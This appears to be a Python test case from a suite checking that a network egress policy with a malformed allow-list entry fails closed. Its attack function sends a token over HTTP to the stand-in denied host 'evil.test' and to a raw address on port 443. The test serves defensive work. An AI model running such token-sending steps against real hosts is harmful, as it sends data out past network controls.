# SPDX-License-Identifier: Apache-2.0
"""A policy that is wrong must not become an open one."""
from bypass import get

TITLE = "a broken policy"
THREAT = "58"
ALLOW = ["ok.test", "..:99999"]
MAY_REFUSE = True


def attack(c):
    with c.step("http to a denied host") as token:
        c.send("evil.test", 80, get("evil.test", f"/{token}"))
    with c.step("by address") as token:
        c.send_address(c.e, 443, token.encode())
